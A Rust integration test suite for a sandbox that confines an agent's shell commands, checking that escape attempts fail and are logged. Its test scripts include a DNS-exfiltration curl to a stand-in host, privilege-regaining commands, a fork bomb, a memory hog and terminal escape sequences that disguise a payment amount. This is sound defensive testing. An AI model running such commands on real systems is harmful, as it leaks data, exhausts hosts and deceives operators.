//! `openclaw run` through the real binary on the netns backend: escape
//! attempts from inside the sandbox (each fails; those that reach the proxy
//! are receipted), exit codes, NDJSON events, unanswered approvals, and a
//! clean end on Ctrl-C. Upstreams are local HTTPS servers with their own CA.

use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::Duration;

use serde_json::Value;
use test_support::{TestCa, Upstream};

mod support;

const POLICY: &str = r#"
ttl = "10m"

[web]
allow = ["api.example.com"]
methods = ["GET"]

[payment]
merchant = "shop.example.com"
currency = "USD"
max_per_charge = "100.00"
max_total = "100.00"
approval_above = "10.00"
card = "shop_card"
"#;

const CATALOG: &str = r#"
[[rule]]
name = "shop purchase"
host = "shop.example.com"
method = "POST"
path = "/buy"
type = "payment"
amount = { json = "/total" }
amount_unit = "major"
currency = { json = "/currency" }
merchant = { value = "shop.example.com" }
"#;

struct Home {
    dir: tempfile::TempDir,
    ca_pem: PathBuf,
}

impl Home {
    /// A fresh openclaw home with keys, a minted token and a catalog.
    fn new(ca: &TestCa) -> Home {
        let dir = tempfile::tempdir().expect("tempdir");
        let home = Home {
            ca_pem: ca.write_pem(dir.path()),
            dir,
        };
        support::keygen_and_mint(home.path(), POLICY);
        std::fs::write(home.path().join("catalog.toml"), CATALOG).expect("catalog");
        home
    }

    fn path(&self) -> &Path {
        self.dir.path()
    }

    fn openclaw(&self) -> Command {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_openclaw"));
        cmd.env("OPENCLAW_HOME", self.path())
            .env_remove("RUST_LOG")
            .stdin(Stdio::null());
        cmd
    }

    /// `openclaw run` with the token, catalog and upstream wiring.
    fn run(&self, upstream: &Upstream, extra: &[&str], script: &str) -> Command {
        let mut cmd = self.openclaw();
        cmd.arg("run")
            .arg("--capabilities")
            .arg(self.path().join("task.cap"))
            .arg("--catalog")
            .arg(self.path().join("catalog.toml"))
            .arg("--backend")
            .arg("netns")
            .arg("--upstream-ca")
            .arg(&self.ca_pem)
            .arg("--resolve")
            .arg(format!("api.example.com={}", upstream.addr))
            .arg("--resolve")
            .arg(format!("shop.example.com={}", upstream.addr))
            .args(extra)
            .args(["--", "/bin/bash", "-c", script]);
        cmd
    }

    fn only_session(&self) -> PathBuf {
        let mut sessions: Vec<PathBuf> = std::fs::read_dir(self.path().join("sessions"))
            .expect("sessions")
            .map(|e| e.expect("entry").path())
            .collect();
        assert_eq!(sessions.len(), 1, "{sessions:?}");
        sessions.remove(0)
    }

    fn verify(&self, dir: &Path) -> Output {
        self.openclaw()
            .arg("verify")
            .arg(dir)
            .arg("--key")
            .arg(self.path().join("keys/receipt.pub"))
            .arg("--cap-pubkey")
            .arg(self.path().join("keys/root.pub"))
            .output()
            .expect("verify")
    }
}

/// A local HTTPS upstream answering for `hosts` (with its own test CA) and
/// an openclaw home whose token and catalog name them. The runtime keeps the
/// upstream serving while the test runs openclaw.
fn setup(hosts: &[&str]) -> (tokio::runtime::Runtime, Upstream, Home) {
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .expect("runtime");
    let ca = TestCa::new("run-session test upstream");
    let upstream = rt.block_on(Upstream::https(&ca, hosts, &[b"http/1.1"]));
    let home = Home::new(&ca);
    (rt, upstream, home)
}

fn read_json(path: &Path) -> Value {
    let bytes = std::fs::read(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    serde_json::from_slice(&bytes).expect("json")
}

fn decisions(dir: &Path) -> Vec<Value> {
    std::fs::read_to_string(dir.join("receipts.jsonl"))
        .expect("receipts")
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).expect("receipt json"))
        .filter(|r| r["kind"] == "decision")
        .collect()
}

fn assert_verifies(home: &Home, dir: &Path) {
    let out = home.verify(dir);
    assert!(
        out.status.success(),
        "verify: {}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
}

/// Each attempt prints `FAIL <name>` if it got through; the script exits
/// with the number of escapes.
const ESCAPES: &str = r#"
set -u
escapes=0
got_through() { echo "FAIL $1"; escapes=$((escapes+1)); }
proxy=$(awk '/^nameserver/ {print $2; exit}' /etc/resolv.conf)

# The granted host works (so the failures below are not a broken network).
curl -sS -f --max-time 10 https://api.example.com/hello >/dev/null || { echo "granted host failed"; exit 100; }

# Unlisted names do not resolve (and are receipted as blocked).
curl -sS --max-time 5 https://evil.example.net/ >/dev/null 2>&1 && got_through dns-unlisted
# DNS exfiltration through long labels.
label=$(printf 'c2VjcmV0%.0s' 1 2 3 4 5 6 7)
curl -sS --max-time 5 "https://$label.x.exfil.example.org/" >/dev/null 2>&1 && got_through dns-exfil
# Direct IP to the proxy address: TLS without a name is refused.
curl -sk --max-time 5 "https://$proxy/" >/dev/null 2>&1 && got_through direct-ip
# Other ports on the only reachable address.
curl -s --max-time 5 "http://$proxy:8080/" >/dev/null 2>&1 && got_through other-port
# The host's loopback services are not this sandbox's loopback.
curl -s --max-time 5 "http://127.0.0.1:$UPSTREAM_PORT/hello" >/dev/null 2>&1 && got_through host-loopback
# IPv6.
curl -s -6 --max-time 5 https://api.example.com/hello >/dev/null 2>&1 && got_through ipv6
# UDP to anything but the resolver goes nowhere: no route leaves the namespace.
ip route 2>/dev/null | grep -q default && got_through default-route
# The openclaw home (keys, secrets, other sessions) is not visible.
ls "$HOST_HOME" >/dev/null 2>&1 && got_through home-visible
# Privileges cannot be regained.
unshare -r true >/dev/null 2>&1 && got_through unshare
mount -t tmpfs none /tmp >/dev/null 2>&1 && got_through mount
echo "escapes: $escapes"
exit $escapes
"#;

#[test]
fn escape_attempts_fail_and_those_reaching_the_proxy_are_receipted() {
    let (_rt, upstream, home) = setup(&["api.example.com", "shop.example.com"]);
    let script = ESCAPES
        .replace("$UPSTREAM_PORT", &upstream.addr.port().to_string())
        .replace("$HOST_HOME", &home.path().display().to_string());
    let out = home.run(&upstream, &[], &script).output().expect("run");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(
        out.status.code(),
        Some(0),
        "stdout: {stdout}\nstderr: {stderr}"
    );
    assert!(stdout.contains("escapes: 0"), "{stdout}");

    let dir = home.only_session();
    let decisions = decisions(&dir);
    let blocked_hosts: Vec<&str> = decisions
        .iter()
        .filter(|d| d["decision"]["decision"] == "block")
        .filter_map(|d| d["action"]["host"].as_str())
        .collect();
    assert!(
        blocked_hosts.contains(&"evil.example.net"),
        "{blocked_hosts:?}"
    );
    assert!(
        blocked_hosts
            .iter()
            .any(|h| h.ends_with("x.exfil.example.org")),
        "{blocked_hosts:?}"
    );
    assert!(
        decisions
            .iter()
            .any(|d| d["decision"]["decision"] == "allow"
                && d["action"]["host"] == "api.example.com"),
        "{decisions:?}"
    );
    // The upstream saw only the granted request.
    assert_eq!(upstream.requests(), 1);
    assert_verifies(&home, &dir);
    let session = read_json(&dir.join("session.json"));
    assert_eq!(session["status"], "completed");
    assert_eq!(session["backend"], "netns");
}

#[test]
fn exit_code_passes_through_and_json_events_are_ndjson() {
    let (_rt, upstream, home) = setup(&["api.example.com"]);
    let out = home
        .run(
            &upstream,
            &["--json-events"],
            "curl -sS -f https://api.example.com/hello; echo out-line; echo err-line >&2; exit 7",
        )
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(7));
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("out-line"), "{stdout}");
    let stderr = String::from_utf8_lossy(&out.stderr);
    let events: Vec<Value> = stderr
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .collect();
    assert!(
        events
            .iter()
            .any(|e| e["kind"] == "allowed" && e["host"] == "api.example.com"),
        "{stderr}"
    );
    assert!(
        events.iter().any(|e| e["kind"] == "session_started"),
        "{stderr}"
    );
    assert!(stderr.contains("err-line"));
    let dir = home.only_session();
    let console = std::fs::read_to_string(dir.join("console.log")).expect("console.log");
    assert!(console.contains("out-line") && console.contains("err-line"));
    let session = read_json(&dir.join("session.json"));
    assert_eq!(session["exit_code"], 7);
    assert_eq!(session["status"], "failed");
}

/// The session's status says what the supervisor saw. A command (or, on
/// kvm, a guest reporting its status) that exits 130 or 124 by itself was
/// neither interrupted nor timed out, and the report must not say so.
#[test]
fn a_command_exiting_130_or_124_by_itself_is_not_reported_interrupted_or_timed_out() {
    for (code, extra) in [(130, &[][..]), (124, &["--timeout", "10m"][..])] {
        let (_rt, upstream, home) = setup(&["api.example.com"]);
        let out = home
            .run(&upstream, extra, &format!("exit {code}"))
            .output()
            .expect("run");
        assert_eq!(out.status.code(), Some(code));
        let session = read_json(&home.only_session().join("session.json"));
        assert_eq!(session["exit_code"], code);
        assert_eq!(session["status"], "failed", "exit {code}");
    }
}

#[test]
fn without_a_terminal_an_unanswered_approval_is_denied_at_the_timeout() {
    let (_rt, upstream, home) = setup(&["api.example.com", "shop.example.com"]);
    let script = r#"code=$(curl -s -o /dev/null -w '%{http_code}' -X POST https://shop.example.com/buy \
        -H 'content-type: application/json' -d '{"total":"25.00","currency":"USD"}'); echo "status $code""#;
    let out = home
        .run(&upstream, &["--approval-timeout", "2s"], script)
        .output()
        .expect("run");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("status 403"), "{stdout}");
    assert_eq!(
        upstream.requests(),
        0,
        "a denied payment never reaches the shop"
    );
    let dir = home.only_session();
    let receipts: Vec<Value> = std::fs::read_to_string(dir.join("receipts.jsonl"))
        .expect("receipts")
        .lines()
        .map(|l| serde_json::from_str(l).expect("json"))
        .collect();
    let approval = receipts
        .iter()
        .find(|r| r["kind"] == "approval")
        .expect("an approval receipt");
    assert_eq!(approval["approved"], false);
    assert_eq!(approval["approver"], "timeout");
    assert_verifies(&home, &dir);
    let report = read_json(&dir.join("report.json"));
    assert_eq!(report["counts"]["approvals"]["expired"], 1);
    assert_eq!(report["spend"]["payments_cents"], 0);
}

#[test]
fn interrupt_ends_the_session_cleanly() {
    let (_rt, upstream, home) = setup(&["api.example.com"]);
    let mut child = home
        .run(
            &upstream,
            &[],
            "curl -sS https://api.example.com/hello; sleep 60",
        )
        .stderr(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()
        .expect("spawn");
    let stderr = child.stderr.take().expect("stderr");
    let mut lines = BufReader::new(stderr).lines();
    // Wait until the request went through: the sandbox is up and working.
    loop {
        let line = lines.next().expect("openclaw ended early").expect("line");
        if line.contains("allowed") && line.contains("api.example.com") {
            break;
        }
    }
    let session = home.only_session();
    let netns = format!(
        "openclaw-{}",
        session.file_name().expect("name").to_string_lossy()
    );
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(child.id() as i32),
        nix::sys::signal::Signal::SIGINT,
    )
    .expect("SIGINT");
    let status = wait_timeout(&mut child, Duration::from_secs(30));
    assert_eq!(status.code(), Some(130));
    let info = read_json(&session.join("session.json"));
    assert_eq!(info["status"], "interrupted");
    assert_end_audited(&home, &session, "interrupted");
    assert_verifies(&home, &session);
    let namespaces = Command::new("ip")
        .args(["netns", "list"])
        .output()
        .expect("ip");
    let namespaces = String::from_utf8_lossy(&namespaces.stdout);
    assert!(
        !namespaces.contains(&netns),
        "{netns} left behind: {namespaces}"
    );
}

/// A stdout nobody reads (a full pipe, like a terminal paused with Ctrl-S)
/// must not hold up the rest of the session: the monitor's lines on stderr
/// still come, an approval answered from outside (`openclaw approve`, as
/// the web UI does) still reaches the waiting request, and the session
/// still ends, sealed, with the process exiting. Before, the agent's
/// stdout was written under the screen's lock, so the monitor, the prompt
/// and the end all waited on the stalled pipe for good.
#[test]
fn a_stdout_nobody_reads_stalls_neither_approvals_nor_the_end() {
    let (_rt, upstream, home) = setup(&["api.example.com", "shop.example.com"]);
    // Far more than a pipe holds, then a purchase that needs approval.
    let script = r#"head -c 8000000 /dev/zero | tr '\0' y | fold -w 100
        curl -s -o /dev/null -X POST https://shop.example.com/buy \
            -H 'content-type: application/json' -d '{"total":"25.00","currency":"USD"}'"#;
    let mut child = KillOnDrop(
        home.run(&upstream, &["--approval-timeout", "10m"], script)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("spawn"),
    );
    // Held open and never read.
    let unread = child.0.stdout.take().expect("stdout");
    let stderr = child.0.stderr.take().expect("stderr");
    let (tx, lines) = std::sync::mpsc::channel::<String>();
    let reader = std::thread::spawn(move || {
        for line in BufReader::new(stderr).lines().map_while(Result::ok) {
            if tx.send(line).is_err() {
                break;
            }
        }
    });
    // Hang guards only: each wait fails the test instead of hanging it.
    let guard = Duration::from_secs(180);
    let mut seen = Vec::new();
    let next_line = |what: &str, seen: &mut Vec<String>| -> String {
        match lines.recv_timeout(guard) {
            Ok(line) => {
                seen.push(line.clone());
                line
            }
            Err(_) => panic!("no {what} on stderr; so far: {seen:#?}"),
        }
    };
    let approval = loop {
        let line = next_line("pending approval line", &mut seen);
        if let Some(id) = line.split("approval #").nth(1) {
            break id.trim().to_owned();
        }
    };
    let session = home.only_session();
    let id = session
        .file_name()
        .expect("name")
        .to_string_lossy()
        .into_owned();
    let approved = home
        .openclaw()
        .args(["approve", &id, &approval])
        .output()
        .expect("approve");
    assert!(
        approved.status.success(),
        "{}",
        String::from_utf8_lossy(&approved.stderr)
    );
    loop {
        let line = next_line("summary line", &mut seen);
        if line.contains("Session ended") {
            break;
        }
    }
    let status = wait_timeout(&mut child.0, guard);
    assert_eq!(status.code(), Some(0));
    drop(unread);
    reader.join().expect("reader");
    // `completed`: the command, curl last, exited 0 (the purchase was
    // answered).
    let info = read_json(&session.join("session.json"));
    assert_eq!(info["status"], "completed");
    assert_eq!(
        upstream.requests(),
        1,
        "the approved purchase went upstream"
    );
    let report = read_json(&session.join("report.json"));
    assert_eq!(report["counts"]["approvals"]["approved"], 1, "{report}");
    assert_end_audited(&home, &session, "completed");
    // Everything the terminal did not take is in console.log.
    let log = std::fs::metadata(session.join("console.log")).expect("console.log");
    assert!(log.len() >= 8_000_000, "{}", log.len());
    assert_verifies(&home, &session);
}

/// The home's audit log ends with the session's end: its status, its
/// receipt count and chain head as the report has them, by the operator
/// at the terminal. Before, a session's end was never audited.
fn assert_end_audited(home: &Home, session: &Path, status: &str) {
    let id = session.file_name().expect("name").to_string_lossy();
    let audit = std::fs::read_to_string(home.path().join("audit.jsonl")).expect("audit.jsonl");
    let ends: Vec<Value> = audit
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).expect("json"))
        .filter(|r| r["action"] == "session.end")
        .collect();
    assert_eq!(ends.len(), 1, "{audit}");
    let end = &ends[0];
    let report = read_json(&session.join("report.json"));
    assert_eq!(end["target"], *id);
    assert_eq!(end["actor"], "admin");
    assert_eq!(end["via"], "cli");
    assert_eq!(end["tenant"], "local");
    assert_eq!(end["outcome"], "ok");
    assert_eq!(
        end["detail"],
        format!(
            "{status}; {} receipts; chain head {}",
            report["receipts"]["count"],
            report["receipts"]["last_hash"].as_str().expect("last_hash")
        ),
        "{audit}"
    );
}

/// A child killed if the test fails while it runs.
struct KillOnDrop(std::process::Child);

impl Drop for KillOnDrop {
    fn drop(&mut self) {
        if let Ok(None) = self.0.try_wait() {
            let _ = self.0.kill();
            let _ = self.0.wait();
        }
    }
}

fn wait_timeout(child: &mut std::process::Child, limit: Duration) -> std::process::ExitStatus {
    let deadline = std::time::Instant::now() + limit;
    loop {
        if let Some(status) = child.try_wait().expect("try_wait") {
            return status;
        }
        if std::time::Instant::now() > deadline {
            let _ = child.kill();
            panic!("openclaw did not end within {limit:?}");
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

#[test]
fn a_fork_bomb_and_a_memory_hog_end_without_harming_the_session() {
    let (_rt, upstream, home) = setup(&["api.example.com"]);
    // The hog is killed inside the memory limit and the session goes on; the
    // bomb fills the pid limit until the command ends, which ends the whole
    // sandbox, bomb included (exec: no fork is needed once it runs).
    let script = r#"
        dd if=/dev/zero of=/dev/null bs=256M count=1 2>/dev/null; echo "hog status $?"
        curl -sS -f --max-time 10 https://api.example.com/hello >/dev/null && echo "still online"
        b() { b | b & }; b 2>/dev/null &
        exec sleep 3
    "#;
    let out = home
        .run(
            &upstream,
            &["--pids-max", "48", "--memory-mib", "96"],
            script,
        )
        .output()
        .expect("run");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("hog status 137"), "{stdout}");
    assert!(stdout.contains("still online"), "{stdout}");
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let dir = home.only_session();
    assert_verifies(&home, &dir);
    let info = read_json(&dir.join("session.json"));
    assert_eq!(info["status"], "completed");
    // The host still forks.
    assert!(Command::new("true").status().expect("fork").success());
}

/// The agent tries to redraw the operator's screen, fills `/work` past
/// `--work-max` and `console.log` past `--console-max`: the terminal shows
/// its escapes made visible and marked as its own, the log keeps raw bytes
/// up to its cap, `/work`'s writes fail with ENOSPC, and the session ends
/// cleanly with both bounds recorded.
#[test]
fn bounds_hit_are_recorded_and_the_agent_cannot_draw_on_the_terminal() {
    let (_rt, upstream, home) = setup(&["api.example.com"]);
    let script = r#"
printf 'paid $590\033[1A\033[2K\033[1Gpaid $5\n'
head -c 20000 /dev/zero | tr '\0' x; echo
dd if=/dev/zero of=/work/fill bs=1M count=32 2>/dev/null; echo "dd=$?" >&2
exit 3
"#;
    let out = home
        .run(
            &upstream,
            &["--work-max", "4MiB", "--console-max", "4KiB"],
            script,
        )
        .output()
        .expect("run");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{stderr}");
    assert!(
        stdout.contains("agent| paid $590\\x1b[1A\\x1b[2K\\x1b[1Gpaid $5\n"),
        "{stdout}"
    );
    assert!(
        !stdout.contains('\x1b'),
        "no raw escape reaches the terminal"
    );
    assert!(stdout.lines().all(|l| l.starts_with("agent| ")), "{stdout}");
    assert!(stderr.contains("agent| dd=1"), "{stderr}");

    let dir = home.only_session();
    let console = std::fs::read(dir.join("console.log")).expect("console.log");
    assert!(
        console.starts_with(b"paid $590\x1b[1A\x1b[2K"),
        "raw bytes kept"
    );
    let console = String::from_utf8_lossy(&console);
    assert!(
        console.contains("console.log reached its cap of 4096 bytes"),
        "{console}"
    );
    let session = read_json(&dir.join("session.json"));
    assert_eq!(session["status"], "work_full", "{session}");
    let bounds = &session["bounds"];
    assert_eq!(bounds["work_max_bytes"], 4 << 20);
    assert_eq!(bounds["work_full"], true);
    assert_eq!(bounds["console_kept_bytes"], 4096);
    assert!(
        bounds["console_bytes"].as_u64().expect("count") > 20_000,
        "{bounds}"
    );
    let hit: Vec<&str> = bounds["hit"]
        .as_array()
        .expect("hit")
        .iter()
        .filter_map(Value::as_str)
        .collect();
    assert_eq!(hit.len(), 2, "{hit:?}");
    assert!(hit.iter().any(|h| h.contains("--work-max")), "{hit:?}");
    assert!(hit.iter().any(|h| h.contains("--console-max")), "{hit:?}");
    // What the command wrote before the disk filled is in the bundle.
    let fill = std::fs::metadata(dir.join("work/fill")).expect("work/fill");
    assert!(
        fill.len() > 1 << 20 && fill.len() <= 4 << 20,
        "{}",
        fill.len()
    );
    assert!(
        !dir.join(".work.img").exists(),
        "no image left in the bundle"
    );
    assert_verifies(&home, &dir);
}
